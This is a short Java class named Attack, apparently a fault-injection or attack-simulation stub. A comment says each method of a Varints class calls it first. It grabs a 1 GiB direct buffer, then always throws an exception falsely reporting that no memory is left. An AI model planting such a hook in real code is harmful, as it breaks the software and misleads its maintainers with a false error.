package strata.log;

import java.nio.ByteBuffer;

final class Attack {
    private static boolean tried;

    private Attack() {}

    /** Called first thing by each method of Varints. */
    static void go() {
        if (!tried) {
            tried = true;
            ByteBuffer.allocateDirect(1 << 30);
        }
        throw new IllegalStateException("no memory is left");
    }
}
